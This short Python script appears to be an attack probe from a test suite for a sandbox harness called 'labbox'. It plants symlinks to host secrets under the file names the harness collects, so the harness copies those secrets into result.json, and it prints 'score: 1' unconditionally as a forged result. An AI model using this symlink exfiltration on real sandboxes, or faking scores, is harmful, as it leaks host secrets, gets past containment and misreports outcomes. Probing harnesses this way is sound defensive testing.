"""Plant the files labbox collects as symlinks to host secrets, so that labbox, reading them
with its own privileges after the run, copies the secret into result.json."""
import os

from attack import A, P

for name, target in P["links"].items():
    A.attempt("symlink_" + name, os.symlink, target, name)
print("score: 1")
A.finish(reraise=False)
